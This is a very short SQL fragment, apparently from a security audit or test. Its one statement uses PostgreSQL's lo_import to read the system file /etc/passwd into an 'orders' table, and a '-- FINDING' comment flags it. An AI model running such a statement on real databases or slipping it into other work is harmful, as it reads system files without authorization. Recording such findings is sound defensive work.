-- Orders.

INSERT INTO orders SELECT lo_import('/etc/passwd'); -- FINDING
